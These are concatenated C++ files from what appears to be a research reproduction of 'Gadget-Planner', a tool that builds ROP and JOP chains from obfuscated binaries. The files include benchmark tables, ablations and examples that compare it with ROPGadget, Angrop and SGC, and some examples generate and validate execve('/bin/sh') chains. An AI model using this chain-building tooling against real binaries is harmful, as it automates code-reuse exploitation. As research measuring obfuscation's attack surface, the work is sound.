        for (const auto& c : rg.chains) props[0].add(c);
        auto an = baselines::angrop(gp.ctx(), gp.library(), img, goal);
        for (const auto& c : an.chains) props[1].add(c);
        auto sg = baselines::sgc(gp.ctx(), gp.library(), img, goal, 2, 10);
        for (const auto& c : sg.chains) props[2].add(c);
        for (const auto& c : gp.find_chains(goal)) props[3].add(c);
      }
    }
  }

  std::printf("Table V — chain properties on obfuscated programs\n");
  std::printf("%-16s %10s %10s %8s %6s %6s %6s\n", "tool", "gadget-len",
              "chain-len", "Ret", "IJ", "DJ", "CJ");
  bench::hr(70);
  static const char* kTools[] = {"ROPGadget", "Angrop", "SGC",
                                 "Gadget-Planner"};
  for (int t = 0; t < 4; ++t) props[t].print(kTools[t]);
  std::printf("\n(paper Table V: GP gadget-len 6.7, chain-len 33.5, mix "
              "38/10/12/40; peers 100%% Ret)\n");
  return 0;
}
