// Table V: chain properties — average gadget length, average chain length,
// and the gadget-type mix (Ret / IJ / DJ / CJ) of the chains each tool
// builds. Expected shape: ROPGadget/Angrop 100% ret with short gadgets;
// Gadget-Planner uses all types and builds the longest chains.
//
// One Campaign covers the whole (program × obfuscation) grid; the baseline
// tools ride along in the on_job hook, which runs with each job's Session
// still alive so they share its context and minimized library.
#include <mutex>

#include "bench_util.hpp"
#include "baselines/baselines.hpp"

namespace {

struct Props {
  int chains = 0;
  int gadgets = 0;
  int insts = 0;
  int ret = 0, ij = 0, dj = 0, cj = 0;
  void add(const gp::payload::Chain& c) {
    ++chains;
    gadgets += static_cast<int>(c.gadgets.size());
    insts += c.total_insts;
    ret += c.ret_gadgets;
    ij += c.ij_gadgets;
    dj += c.dj_gadgets;
    cj += c.cj_gadgets;
  }
  void print(const char* tool) const {
    if (chains == 0) {
      std::printf("%-16s %10s %10s  (no chains)\n", tool, "-", "-");
      return;
    }
    const double typed = ret + ij + cj;
    std::printf("%-16s %10.1f %10.1f %7.0f%% %5.0f%% %5.0f%% %5.0f%%\n",
                tool, static_cast<double>(insts) / gadgets,
                static_cast<double>(insts) / chains,
                100.0 * ret / typed, 100.0 * ij / typed,
                100.0 * dj / std::max(1, gadgets),
                100.0 * cj / typed);
  }
};

}  // namespace

int main() {
  using namespace gp;
  Props props[4];
  std::mutex props_mu;

  std::vector<core::Job> jobs;
  for (const auto& row : bench::table4_rows()) {
    if (row.label == "Original") continue;  // Table V is about obf chains
    auto method_jobs = bench::bench_jobs(row.options, row.label);
    jobs.insert(jobs.end(), method_jobs.begin(), method_jobs.end());
  }

  core::Campaign::Options copts;
  copts.concurrency = bench::bench_concurrency();
  copts.pipeline.plan.max_chains = 8;
  copts.pipeline.plan.time_budget_seconds = 20;
  copts.on_job = [&](const core::Job& job, core::Session& s,
                     core::JobResult& r) {
    // Baselines share the session's context and library; the lock also
    // serializes them, so the shared Props never race.
    std::lock_guard<std::mutex> lock(props_mu);
    for (size_t g = 0; g < job.goals.size(); ++g) {
      const auto& goal = job.goals[g];
      auto rg = baselines::rop_gadget(s.img(), goal);
      for (const auto& c : rg.chains) props[0].add(c);
      auto an = baselines::angrop(s.ctx(), s.library(), s.img(), goal);
      for (const auto& c : an.chains) props[1].add(c);
      auto sg = baselines::sgc(s.ctx(), s.library(), s.img(), goal, 2, 10);
      for (const auto& c : sg.chains) props[2].add(c);
      for (const auto& c : r.chains[g]) props[3].add(c);
    }
  };
  core::Campaign(core::Engine::shared(), copts).run(jobs);

  std::printf("Table V — chain properties on obfuscated programs "
              "(codegen %s)\n",
              bench::opt_label());
  std::printf("%-16s %10s %10s %8s %6s %6s %6s\n", "tool", "gadget-len",
              "chain-len", "Ret", "IJ", "DJ", "CJ");
  bench::hr(70);
  static const char* kTools[] = {"ROPGadget", "Angrop", "SGC",
                                 "Gadget-Planner"};
  for (int t = 0; t < 4; ++t) props[t].print(kTools[t]);
  std::printf("\n(paper Table V: GP gadget-len 6.7, chain-len 33.5, mix "
              "38/10/12/40; peers 100%% Ret)\n");
  return 0;
}
