// Table VI: the SPEC-like suite — gadget and chain counts per tool on the
// original and obfuscated builds. Expected shape: baselines find 0-1 chains
// anywhere; Gadget-Planner finds chains on the obfuscated builds.
#include "bench_util.hpp"

int main() {
  using namespace gp;
  auto campaign_opts = bench::quick_campaign();

  std::printf("Table VI — SPEC-like programs (execve/mprotect/mmap chains "
              "summed)\n");
  std::printf("%-12s %-10s %10s | %6s %6s %6s %6s\n", "benchmark", "build",
              "gadgets", "RG", "Angrop", "SGC", "GP");
  bench::hr(76);

  for (const auto& program : corpus::spec()) {
    for (const auto& row : bench::table4_rows(429)) {
      auto r = core::run_campaign(program.name, program.source, row.options,
                                  campaign_opts);
      std::printf("%-12s %-10s %10llu | %6d %6d %6d %6d\n",
                  program.name.c_str(), row.label.c_str(),
                  (unsigned long long)r.tools[3].gadgets_total,
                  r.tools[0].total_chains(), r.tools[1].total_chains(),
                  r.tools[2].total_chains(), r.tools[3].total_chains());
    }
  }
  std::printf("\n(paper Table VI: RG/Angrop ~0 everywhere; GP finds chains, "
              "most on obfuscated builds)\n");
  return 0;
}
