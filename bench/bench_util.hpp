// Shared plumbing for the table/figure regeneration binaries.
//
// Every binary prints the rows of one paper table or figure. Absolute
// numbers come from our simulated substrate; the *shapes* (who wins, rough
// factors, where the crossovers sit) are the reproduction target — see
// EXPERIMENTS.md. Set GP_BENCH_FULL=1 to sweep the whole corpus instead of
// the quick default subset.
#pragma once

#include <algorithm>
#include <cstdio>
#include <string>
#include <vector>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "support/config.hpp"

namespace gp::bench {

inline bool full_sweep() { return config().bench_full; }

/// Codegen options honoring GP_OPT_LEVEL — the drivers that compile
/// directly (fig1/table1/table7) use this so `GP_OPT_LEVEL=2 fig1`
/// regenerates the table at -O2; campaign-based drivers resolve the same
/// knob inside Campaign::run.
inline codegen::Options bench_codegen() {
  codegen::Options opts;
  opts.opt = codegen::opt_level_from_int(config().opt_level);
  return opts;
}

/// "O0"/"O1"/"O2" for table headers.
inline const char* opt_label() {
  return codegen::opt_level_name(bench_codegen().opt);
}

/// The benchmark programs a quick run uses (a representative third of the
/// corpus); GP_BENCH_FULL=1 uses all twelve.
inline std::vector<corpus::ProgramSource> bench_programs() {
  const auto& all = corpus::benchmark();
  if (full_sweep()) return all;
  return {all[0], all[3], all[7], all[10]};  // sort, fib, matrix, hash
}

/// The obfuscation configurations of Table IV's rows.
struct ObfRow {
  std::string label;
  obf::Options options;
};
inline std::vector<ObfRow> table4_rows(u64 seed = 7) {
  return {{"Original", obf::Options::none()},
          {"LLVM-Obf", obf::Options::llvm_obf(seed)},
          {"Tigress", obf::Options::tigress(seed)}};
}

inline void hr(int width = 100) {
  for (int i = 0; i < width; ++i) std::fputc('-', stdout);
  std::fputc('\n', stdout);
}

/// Campaign options tuned so a full bench binary stays in the minutes
/// range.
inline core::CampaignOptions quick_campaign() {
  core::CampaignOptions opts;
  opts.pipeline.plan.max_chains = 8;
  opts.pipeline.plan.time_budget_seconds = 20;
  opts.pipeline.plan.max_expansions = 4000;
  opts.sgc_max_chains = 4;
  return opts;
}

/// Session concurrency for bench campaigns: bounded fan-out on top of the
/// engine's shared pool (each session also parallelizes internally).
inline int bench_concurrency() { return std::min(4, config().threads); }

/// Campaign jobs: every bench program under one obfuscation config.
inline std::vector<core::Job> bench_jobs(
    const obf::Options& options, const std::string& label,
    const std::vector<payload::Goal>& goals = payload::Goal::all()) {
  std::vector<core::Job> jobs;
  for (const auto& program : bench_programs()) {
    core::Job job;
    job.program = program.name;
    job.source = program.source;
    job.obfuscation = label;
    job.obf = options;
    job.goals = goals;
    jobs.push_back(std::move(job));
  }
  return jobs;
}

}  // namespace gp::bench
