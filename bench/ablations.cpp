// Ablations for the design choices DESIGN.md calls out:
//   1. subsumption testing off   -> bigger pool, slower/equal planning
//   2. conditional gadgets off   -> fewer chains (the baselines' handicap)
//   3. direct-jump merging off   -> fewer chains
//   4. indirect gadgets off      -> fewer chains (pure ROP)
#include "bench_util.hpp"

int main() {
  using namespace gp;

  struct Config {
    const char* label;
    bool subsume, cond, direct, indirect;
  };
  const Config configs[] = {
      {"full pipeline", true, true, true, true},
      {"no subsumption", false, true, true, true},
      {"no conditional gadgets", true, false, true, true},
      {"no direct-jump merge", true, true, false, true},
      {"no indirect gadgets", true, true, true, false},
  };

  std::printf("Ablations — Gadget-Planner variants over %zu obfuscated "
              "programs (all goals)\n",
              bench::bench_programs().size());
  std::printf("%-26s %10s %10s %10s\n", "configuration", "pool", "chains",
              "plan-s");
  bench::hr(62);

  for (const auto& cfg : configs) {
    // One campaign per ablation variant: same jobs, different pipeline.
    core::Campaign::Options copts;
    copts.concurrency = bench::bench_concurrency();
    copts.pipeline.run_subsumption = cfg.subsume;
    copts.pipeline.plan.use_cond_gadgets = cfg.cond;
    copts.pipeline.plan.use_direct_merged = cfg.direct;
    copts.pipeline.plan.use_indirect_gadgets = cfg.indirect;
    copts.pipeline.plan.max_chains = 8;
    copts.pipeline.plan.time_budget_seconds = 15;
    core::Campaign campaign(core::Engine::shared(), copts);
    const auto summary =
        campaign.run(bench::bench_jobs(obf::Options::llvm_obf(7), "llvm-obf"));

    u64 pool = 0;
    int chains = 0;
    double plan_s = 0;
    for (const auto& r : summary.results) {
      pool += r.stages.pool_minimized;
      chains += r.total_chains();
      plan_s += r.stages.plan_seconds;
    }
    std::printf("%-26s %10llu %10d %10.2f\n", cfg.label,
                (unsigned long long)pool, chains, plan_s);
  }
  std::printf("\n(expected: the full pipeline dominates; gadget-class "
              "ablations reproduce the baselines' blind spots)\n");
  return 0;
}
