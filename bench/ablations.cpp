// Ablations for the design choices DESIGN.md calls out:
//   1. subsumption testing off   -> bigger pool, slower/equal planning
//   2. conditional gadgets off   -> fewer chains (the baselines' handicap)
//   3. direct-jump merging off   -> fewer chains
//   4. indirect gadgets off      -> fewer chains (pure ROP)
#include "bench_util.hpp"
#include "codegen/codegen.hpp"
#include "minic/minic.hpp"

int main() {
  using namespace gp;

  struct Config {
    const char* label;
    bool subsume, cond, direct, indirect;
  };
  const Config configs[] = {
      {"full pipeline", true, true, true, true},
      {"no subsumption", false, true, true, true},
      {"no conditional gadgets", true, false, true, true},
      {"no direct-jump merge", true, true, false, true},
      {"no indirect gadgets", true, true, true, false},
  };

  std::printf("Ablations — Gadget-Planner variants over %zu obfuscated "
              "programs (all goals)\n",
              bench::bench_programs().size());
  std::printf("%-26s %10s %10s %10s\n", "configuration", "pool", "chains",
              "plan-s");
  bench::hr(62);

  for (const auto& cfg : configs) {
    u64 pool = 0;
    int chains = 0;
    double plan_s = 0;
    for (const auto& program : bench::bench_programs()) {
      auto prog = minic::compile_source(program.source);
      obf::obfuscate(prog, obf::Options::llvm_obf(7));
      const auto img = codegen::compile(prog);

      core::PipelineOptions popts;
      popts.run_subsumption = cfg.subsume;
      popts.plan.use_cond_gadgets = cfg.cond;
      popts.plan.use_direct_merged = cfg.direct;
      popts.plan.use_indirect_gadgets = cfg.indirect;
      popts.plan.max_chains = 8;
      popts.plan.time_budget_seconds = 15;
      core::GadgetPlanner gp(img, popts);
      pool += gp.library().size();
      for (const auto& goal : payload::Goal::all())
        chains += static_cast<int>(gp.find_chains(goal).size());
      plan_s += gp.report().plan_seconds;
    }
    std::printf("%-26s %10llu %10d %10.2f\n", cfg.label,
                (unsigned long long)pool, chains, plan_s);
  }
  std::printf("\n(expected: the full pipeline dominates; gadget-class "
              "ablations reproduce the baselines' blind spots)\n");
  return 0;
}
