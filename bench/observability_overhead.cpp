// Observability overhead: the same staged pipeline run with metrics and
// tracing off, metrics only, and metrics + tracing, reported as wall time
// per mode and percent over the disabled baseline. The contract the ISSUE
// sets (and EXPERIMENTS.md records): disabled-mode cost is within noise,
// and even full tracing stays in the low single digits — the counters are
// thread-sharded relaxed adds and a span is two clock reads plus one ring
// slot store.
#include <chrono>

#include "bench_util.hpp"
#include "codegen/codegen.hpp"
#include "minic/minic.hpp"
#include "support/metrics.hpp"
#include "support/trace.hpp"

int main() {
  using namespace gp;
  using Clock = std::chrono::steady_clock;

  auto prog = minic::compile_source(corpus::by_name("hash_table").source);
  obf::obfuscate(prog, obf::Options::llvm_obf(5));
  const auto img = codegen::compile(prog);

  struct Mode {
    const char* label;
    bool metrics;
    bool trace;
  };
  const Mode modes[] = {
      {"metrics off, trace off", false, false},
      {"metrics on,  trace off", true, false},
      {"metrics on,  trace on", true, true},
  };
  const int reps = bench::full_sweep() ? 5 : 3;

  std::printf("Observability overhead — full pipeline on obfuscated "
              "hash_table (%zu bytes, best of %d reps)\n\n",
              img.code().size(), reps);
  std::printf("%-24s %10s %10s %12s\n", "mode", "time(s)", "chains",
              "vs baseline");
  bench::hr(60);

  double baseline = 0;
  for (const Mode& mode : modes) {
    metrics::set_enabled(mode.metrics);
    trace::set_enabled(mode.trace);
    double best = 1e30;
    int chains = 0;
    for (int rep = 0; rep < reps; ++rep) {
      metrics::registry().reset();
      trace::reset();
      core::PipelineOptions popts;
      popts.plan.max_chains = 8;
      popts.plan.time_budget_seconds = 20;
      popts.store_dir.clear();  // no checkpoints: measure compute, not I/O
      const auto t0 = Clock::now();
      core::Session session(core::Engine::shared(), img, popts);
      (void)session.extract();
      (void)session.subsume();
      chains = 0;
      for (const auto& goal : payload::Goal::all())
        chains += static_cast<int>(session.find_chains(goal).size());
      best = std::min(
          best, std::chrono::duration<double>(Clock::now() - t0).count());
    }
    if (baseline == 0) baseline = best;
    std::printf("%-24s %10.3f %10d %+11.1f%%\n", mode.label, best, chains,
                (best / baseline - 1.0) * 100.0);
  }

  metrics::set_enabled(true);
  trace::set_enabled(false);
  std::printf("\n(contract: disabled mode within noise of the pre-"
              "instrumentation baseline; tracing low single digits)\n");
  return 0;
}
