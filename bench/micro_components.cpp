// Component micro-benchmarks (google-benchmark): decoder throughput,
// lift+symbolic-execution rate, SAT solving, emulator speed. These are the
// substrate costs underlying the stage times in Table VII.
#include <benchmark/benchmark.h>

#include "codegen/codegen.hpp"
#include "gadget/gadget.hpp"
#include "corpus/corpus.hpp"
#include "emu/emu.hpp"
#include "lift/lift.hpp"
#include "minic/minic.hpp"
#include "obfuscate/obfuscate.hpp"
#include "solver/solver.hpp"
#include "subsume/subsume.hpp"
#include "sym/exec.hpp"
#include "x86/decoder.hpp"

namespace {

using namespace gp;

const image::Image& test_image() {
  static const image::Image img = [] {
    auto prog = minic::compile_source(corpus::by_name("hash_table").source);
    obf::obfuscate(prog, obf::Options::llvm_obf(7));
    return codegen::compile(prog);
  }();
  return img;
}

void BM_DecodeEveryOffset(benchmark::State& state) {
  const auto& img = test_image();
  for (auto _ : state) {
    u64 decoded = 0;
    for (u64 a = img.code_base(); a < img.code_end(); ++a) {
      auto inst = x86::decode(img.code_at(a), a);
      if (inst) ++decoded;
    }
    benchmark::DoNotOptimize(decoded);
  }
  state.SetBytesProcessed(static_cast<i64>(state.iterations()) *
                          static_cast<i64>(img.code().size()));
}
BENCHMARK(BM_DecodeEveryOffset);

void BM_LiftAndSymStep(benchmark::State& state) {
  const auto& img = test_image();
  solver::Context ctx;
  sym::Executor exec(ctx, &img);
  for (auto _ : state) {
    sym::State st = exec.initial_state();
    u64 a = img.code_base();
    int steps = 0;
    while (steps < 64 && img.in_code(a)) {
      auto inst = x86::decode(img.code_at(a), a);
      if (!inst || inst->is_terminator()) break;
      exec.step(st, lift::lift(*inst));
      a += inst->len;
      ++steps;
    }
    benchmark::DoNotOptimize(st.regs[0]);
  }
}
BENCHMARK(BM_LiftAndSymStep);

void BM_SolverEquivalenceQuery(benchmark::State& state) {
  solver::Context ctx;
  const auto a = ctx.var("a", 64);
  const auto b = ctx.var("b", 64);
  const auto lhs = ctx.bxor(a, b);
  const auto rhs =
      ctx.bor(ctx.band(ctx.bnot(a), b), ctx.band(a, ctx.bnot(b)));
  for (auto _ : state) {
    solver::Solver solver(ctx);
    benchmark::DoNotOptimize(solver.prove_equal(lhs, rhs));
  }
}
BENCHMARK(BM_SolverEquivalenceQuery);

void BM_EmulatorRun(benchmark::State& state) {
  const auto& img = test_image();
  i64 steps = 0;
  for (auto _ : state) {
    emu::Emulator e(img);
    auto r = e.run(5'000'000);
    benchmark::DoNotOptimize(r.steps);
    steps += static_cast<i64>(r.steps);
  }
  state.SetItemsProcessed(steps);
}
BENCHMARK(BM_EmulatorRun);

void BM_GadgetExtraction(benchmark::State& state) {
  const auto& img = test_image();
  for (auto _ : state) {
    solver::Context ctx;
    gadget::Extractor ex(ctx, img);
    auto pool = ex.extract({});
    benchmark::DoNotOptimize(pool.size());
  }
}
BENCHMARK(BM_GadgetExtraction);

// Thread-count sweep over the parallel offset scan (Arg = GP_THREADS
// equivalent; 1 is the exact sequential path). On a multi-core host the
// higher-arg rows measure the shard/merge speedup.
void BM_GadgetExtractionThreads(benchmark::State& state) {
  const auto& img = test_image();
  gadget::ExtractOptions opts;
  opts.threads = static_cast<int>(state.range(0));
  for (auto _ : state) {
    solver::Context ctx;
    gadget::Extractor ex(ctx, img);
    auto pool = ex.extract(opts);
    benchmark::DoNotOptimize(pool.size());
  }
}
BENCHMARK(BM_GadgetExtractionThreads)->Arg(1)->Arg(2)->Arg(4);

// Thread-count sweep over subsumption minimization (the other hot stage):
// one extraction up front, each iteration minimizes a copy of the pool.
void BM_SubsumptionMinimizeThreads(benchmark::State& state) {
  static solver::Context ctx;
  static const std::vector<gadget::Record> pool = [] {
    gadget::Extractor ex(ctx, test_image());
    return ex.extract({});
  }();
  const int threads = static_cast<int>(state.range(0));
  for (auto _ : state) {
    subsume::Stats st;
    auto kept = subsume::minimize(ctx, pool, &st,
                                  /*max_solver_checks=*/20'000, threads);
    benchmark::DoNotOptimize(kept.size());
  }
}
BENCHMARK(BM_SubsumptionMinimizeThreads)->Arg(1)->Arg(2)->Arg(4);

}  // namespace

BENCHMARK_MAIN();
