// Table I: per-type gadget counts (Return / UDJ / UIJ / CDJ / CIJ) in
// original vs obfuscated programs, with the increase rate. Counting follows
// the paper's ROPGadget-style syntactic scan: decode straight-line from
// every offset until the first control transfer and classify by that
// terminator (a Jcc followed by an indirect transfer is CIJ, otherwise CDJ).
#include "bench_util.hpp"
#include "codegen/codegen.hpp"
#include "minic/minic.hpp"
#include "x86/decoder.hpp"

namespace {

enum Type { kRet = 0, kUDJ, kUIJ, kCDJ, kCIJ, kNumTypes };
const char* kNames[] = {"Return", "UDJ", "UIJ", "CDJ", "CIJ"};

void count_types(const gp::image::Image& img, gp::u64 counts[kNumTypes]) {
  using namespace gp;
  const auto code = img.code();
  for (size_t off = 0; off < code.size(); ++off) {
    u64 pc = img.code_base() + off;
    for (int i = 0; i < 10; ++i) {
      auto inst = x86::decode(img.code_at(pc), pc);
      if (!inst) break;
      using x86::Mnemonic;
      if (inst->mnemonic == Mnemonic::RET) {
        ++counts[kRet];
        break;
      }
      if (inst->mnemonic == Mnemonic::JMP || inst->mnemonic == Mnemonic::CALL) {
        ++counts[inst->dst.is_imm() ? kUDJ : kUIJ];
        break;
      }
      if (inst->mnemonic == Mnemonic::SYSCALL) break;
      if (inst->mnemonic == Mnemonic::JCC) {
        // Peek at the fallthrough: conditional-then-indirect is CIJ.
        const u64 next = inst->addr + inst->len;
        bool indirect_next = false;
        if (img.in_code(next)) {
          auto peek = x86::decode(img.code_at(next), next);
          indirect_next = peek && (peek->mnemonic == Mnemonic::JMP ||
                                   peek->mnemonic == Mnemonic::CALL) &&
                          !peek->dst.is_imm();
        }
        ++counts[indirect_next ? kCIJ : kCDJ];
        break;
      }
      pc += inst->len;
      if (!img.in_code(pc)) break;
    }
  }
}

}  // namespace

int main() {
  using namespace gp;
  u64 original[kNumTypes] = {};
  u64 obfuscated[kNumTypes] = {};

  for (const auto& program : bench::bench_programs()) {
    {
      auto prog = minic::compile_source(program.source);
      count_types(codegen::compile(prog, bench::bench_codegen()), original);
    }
    {
      // "Obfuscated" aggregates the paper's all-options setting; we follow
      // with the Tigress profile (all five methods).
      auto prog = minic::compile_source(program.source);
      obf::obfuscate(prog, obf::Options::tigress(7));
      count_types(codegen::compile(prog, bench::bench_codegen()), obfuscated);
    }
  }

  std::printf("Table I — gadget types, original vs obfuscated (summed over "
              "%zu programs, codegen %s)\n",
              bench::bench_programs().size(), bench::opt_label());
  std::printf("%-10s %14s %14s %10s\n", "type", "original", "obfuscated",
              "IR");
  bench::hr(52);
  for (int t = 0; t < kNumTypes; ++t) {
    const double ir =
        original[t] ? 100.0 * (static_cast<double>(obfuscated[t]) -
                               static_cast<double>(original[t])) /
                          static_cast<double>(original[t])
                    : 0.0;
    std::printf("%-10s %14llu %14llu %9.2f%%\n", kNames[t],
                (unsigned long long)original[t],
                (unsigned long long)obfuscated[t], ir);
  }
  std::printf("(paper Table I: increase rates between 42%% and 83%% across "
              "types)\n");
  return 0;
}
