// Fig. 1: number of gadgets in original vs obfuscated benchmark programs.
// Expected shape: every obfuscated bar is substantially taller than its
// original; Tigress (virtualization included) tallest.
#include <cmath>

#include "bench_util.hpp"
#include "codegen/codegen.hpp"
#include "gadget/gadget.hpp"
#include "minic/minic.hpp"

int main() {
  using namespace gp;
  std::printf("Fig. 1 — gadget counts per benchmark program (codegen %s)\n",
              bench::opt_label());
  std::printf("%-16s %12s %12s %12s %10s %10s\n", "program", "original",
              "llvm-obf", "tigress", "llvm-x", "tigress-x");
  bench::hr();

  double geo_llvm = 1.0, geo_tig = 1.0;
  int n = 0;
  for (const auto& program : bench::bench_programs()) {
    u64 counts[3] = {0, 0, 0};
    int idx = 0;
    for (const auto& row : bench::table4_rows()) {
      auto prog = minic::compile_source(program.source);
      obf::obfuscate(prog, row.options);
      const auto img = codegen::compile(prog, bench::bench_codegen());
      solver::Context ctx;
      gadget::Extractor ex(ctx, img);
      counts[idx++] = ex.extract({}).size();
    }
    const double lx = static_cast<double>(counts[1]) / counts[0];
    const double tx = static_cast<double>(counts[2]) / counts[0];
    geo_llvm *= lx;
    geo_tig *= tx;
    ++n;
    std::printf("%-16s %12llu %12llu %12llu %9.2fx %9.2fx\n",
                program.name.c_str(), (unsigned long long)counts[0],
                (unsigned long long)counts[1], (unsigned long long)counts[2],
                lx, tx);
  }
  bench::hr();
  std::printf("geometric-mean increase: llvm-obf %.2fx, tigress %.2fx\n",
              std::pow(geo_llvm, 1.0 / n), std::pow(geo_tig, 1.0 / n));
  std::printf("(paper: obfuscation increases gadget counts substantially, "
              "42-83%% per type in Table I)\n");
  return 0;
}
