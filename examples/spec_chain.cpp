// The paper's Fig. 6 scenario on the SPEC-like suite: run Gadget-Planner and
// the baselines on the mcf-like program (original and obfuscated) and show a
// chain the baselines cannot build — one that leans on conditional-jump or
// register-transfer gadgets.
#include <cstdio>

#include "baselines/baselines.hpp"
#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"
#include "support/str.hpp"

int main() {
  using namespace gp;

  // Sweep the SPEC-like suite; report every program, and show the chain
  // detail for the first obfuscated build where Gadget-Planner succeeds.
  bool shown_detail = false;
  for (const auto& target : corpus::spec())
  for (const bool obfuscate : {false, true}) {
    auto program = minic::compile_source(target.source);
    if (obfuscate) obf::obfuscate(program, obf::Options::llvm_obf(429));
    const image::Image img = codegen::compile(program);
    std::printf("=== %s (%s), %zu bytes ===\n", target.name.c_str(),
                obfuscate ? "LLVM-Obf" : "original", img.code().size());

    core::PipelineOptions popts;
    popts.plan.max_chains = 6;
    popts.plan.time_budget_seconds = 30;
    core::GadgetPlanner gp(img, popts);

    const auto goal = payload::Goal::execve();
    auto rg = baselines::rop_gadget(img, goal);
    auto an = baselines::angrop(gp.ctx(), gp.library(), img, goal);
    auto sg = baselines::sgc(gp.ctx(), gp.library(), img, goal, 2, 10);
    auto chains = gp.find_chains(goal);

    std::printf("  ROPGadget: %llu gadgets, %zu chains\n",
                (unsigned long long)rg.gadgets_total, rg.chains.size());
    std::printf("  Angrop:    %llu gadgets, %zu chains\n",
                (unsigned long long)an.gadgets_total, an.chains.size());
    std::printf("  SGC:       %llu gadgets, %zu chains\n",
                (unsigned long long)sg.gadgets_total, sg.chains.size());
    std::printf("  Gadget-Planner: %zu gadgets, %zu chains\n",
                gp.library().size(), chains.size());

    // Show the most interesting chain: prefer one using CJ/IJ gadgets.
    if (shown_detail) {
      std::printf("\n");
      continue;
    }
    const payload::Chain* best = nullptr;
    for (const auto& c : chains)
      if (!best || c.cj_gadgets + c.ij_gadgets >
                       best->cj_gadgets + best->ij_gadgets)
        best = &c;
    if (best) {
      std::printf("\n  chain (%d ret / %d ij / %d cj gadgets):\n",
                  best->ret_gadgets, best->ij_gadgets, best->cj_gadgets);
      for (const u32 gi : best->gadgets) {
        const auto& g = gp.library()[gi];
        std::printf("    @%s:", hex(g.addr).c_str());
        for (const auto& s : g.path)
          std::printf(" %s;", x86::to_string(s.inst).c_str());
        std::printf("\n");
      }
      const bool ok = payload::validate(img, *best, goal,
                                        image::kStackTop - 0x2000, 0x5eed);
      std::printf("  validation: %s\n", ok ? "PASS" : "FAIL");
      shown_detail = true;
    }
    std::printf("\n");
  }
  return 0;
}
