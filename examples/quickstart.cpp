// Quickstart: compile a small program, obfuscate it, and let Gadget-Planner
// build a validated execve chain from the obfuscated binary.
//
//   $ ./quickstart
#include <cstdio>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "minic/minic.hpp"
#include "support/str.hpp"

int main() {
  using namespace gp;

  const char* source = R"(
    int scale(int x, int k) { return x * k + 3; }
    int clamp(int v, int lo, int hi) { if (v < lo) return lo; if (v > hi) return hi; return v; }
    int a[16];
    int main() {
      int i = 0;
      while (i < 16) { a[i] = clamp(scale(i, 37), 5, 900) & 0xff; i = i + 1; }
      int j = 0; int best = 0;
      while (j < 16) { if (a[j] > best) best = a[j]; j = j + 1; }
      out(best);
      return best;
    })";

  // 1. Compile and obfuscate (Obfuscator-LLVM profile: substitution +
  //    bogus control flow + flattening).
  auto program = minic::compile_source(source);
  obf::obfuscate(program, obf::Options::llvm_obf(7));
  const image::Image img = codegen::compile(program);
  std::printf("obfuscated binary: %zu bytes of code, %zu bytes of data\n",
              img.code().size(), img.data().size());

  // 2. Extract + subsume + index gadgets.
  core::GadgetPlanner gp(img);
  std::printf("gadget pool: %llu raw -> %llu after subsumption\n",
              (unsigned long long)gp.report().pool_raw,
              (unsigned long long)gp.report().pool_minimized);

  // 3. Plan chains for execve("/bin/sh", 0, 0).
  auto chains = gp.find_chains(payload::Goal::execve());
  std::printf("validated execve chains: %zu\n", chains.size());

  // With GP_STORE_DIR set, stage outputs are checkpointed: a second run (or
  // a run resumed after a crash) serves them from the store.
  const auto& store = gp.report().store;
  if (store.hits + store.resumes + store.puts > 0)
    std::printf("checkpoints: %llu served (%llu from an earlier process), "
                "%llu written\n",
                (unsigned long long)(store.hits + store.resumes),
                (unsigned long long)store.resumes,
                (unsigned long long)store.puts);
  std::printf("\n");

  for (size_t i = 0; i < chains.size(); ++i) {
    const auto& c = chains[i];
    std::printf("chain %zu: %zu gadgets, %d instructions, entry %s\n", i,
                c.gadgets.size(), c.total_insts, hex(c.entry).c_str());
    std::printf("  gadget mix: %d ret / %d indirect-jump / %d cond-jump\n",
                c.ret_gadgets, c.ij_gadgets, c.cj_gadgets);
    std::printf("  payload: %zu bytes\n", c.payload.size());
    // Every chain was already emulator-validated; prove it once more.
    const bool ok = payload::validate(img, c, payload::Goal::execve(),
                                      image::kStackTop - 0x2000, 0xabc);
    std::printf("  re-validation: %s\n", ok ? "PASS" : "FAIL");
  }
  return chains.empty() ? 1 : 0;
}
