// Security report for one program: how each obfuscation method changes its
// size, gadget population, and exploitable surface — the practical takeaway
// of the paper ("users must cautiously adopt these obfuscations").
#include <cstdio>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"

int main(int argc, char** argv) {
  using namespace gp;
  const std::string name = argc > 1 ? argv[1] : "hash_table";
  const auto& target = corpus::by_name(name);
  std::printf("obfuscation risk report for '%s'\n\n", name.c_str());
  std::printf("%-16s %10s %10s %10s %10s %8s\n", "method", "code-B",
              "gadgets", "ret-gdgts", "ind-gdgts", "execve");
  for (int i = 0; i < 70; ++i) std::fputc('-', stdout);
  std::fputc('\n', stdout);

  struct Method {
    const char* label;
    obf::Options options;
  };
  const Method methods[] = {
      {"(original)", obf::Options::none()},
      {"substitution", {.substitution = true, .seed = 5}},
      {"bogus-cf", {.bogus_cf = true, .seed = 5}},
      {"flattening", {.flatten = true, .seed = 5}},
      {"encode-data", {.encode_data = true, .seed = 5}},
      {"virtualization", {.virtualize = true, .seed = 5}},
      {"llvm-obf", obf::Options::llvm_obf(5)},
      {"tigress", obf::Options::tigress(5)},
  };

  u64 ckpt_served = 0, ckpt_written = 0;
  for (const auto& m : methods) {
    auto prog = minic::compile_source(target.source);
    obf::obfuscate(prog, m.options);
    const auto img = codegen::compile(prog);

    core::PipelineOptions popts;
    popts.plan.max_chains = 8;
    popts.plan.time_budget_seconds = 15;
    core::GadgetPlanner gp(img, popts);

    u64 ret_g = 0, ind_g = 0;
    for (const auto& g : gp.library().all()) {
      if (g.end == gadget::EndKind::Ret) ++ret_g;
      if (g.end == gadget::EndKind::IndJmp ||
          g.end == gadget::EndKind::IndCall)
        ++ind_g;
    }
    const auto chains = gp.find_chains(payload::Goal::execve());
    std::printf("%-16s %10zu %10zu %10llu %10llu %8zu\n", m.label,
                img.code().size(), gp.library().size(),
                (unsigned long long)ret_g, (unsigned long long)ind_g,
                chains.size());
    ckpt_served += gp.report().store.hits + gp.report().store.resumes;
    ckpt_written += gp.report().store.puts;
  }
  std::printf("\nhigher execve counts = more exploitable attack surface\n");
  if (ckpt_served + ckpt_written > 0)
